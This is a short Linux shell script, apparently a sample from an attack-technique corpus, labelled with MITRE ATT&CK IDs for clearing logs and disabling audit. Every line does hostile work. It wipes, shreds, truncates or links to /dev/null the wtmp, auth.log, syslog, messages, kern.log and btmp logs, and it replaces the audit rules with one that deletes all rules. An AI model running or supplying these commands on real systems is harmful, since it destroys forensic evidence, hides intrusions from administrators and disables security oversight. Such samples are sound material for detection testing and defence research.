#!/bin/sh
# Clear Linux logs (T1070.002).
: > /var/log/wtmp
/bin/rm -f /var/log/auth.log
/bin/shred -u /var/log/syslog
/bin/truncate -s 0 /var/log/messages
cat /dev/null > /var/log/kern.log
/bin/ln -sf /dev/null /var/log/btmp
# The audit rules replaced by one that deletes every rule (T1562.012).
/bin/mkdir -p /etc/audit/rules.d
echo "-D" > /etc/audit/rules.d/audit.rules
echo "[corpus] logs done"
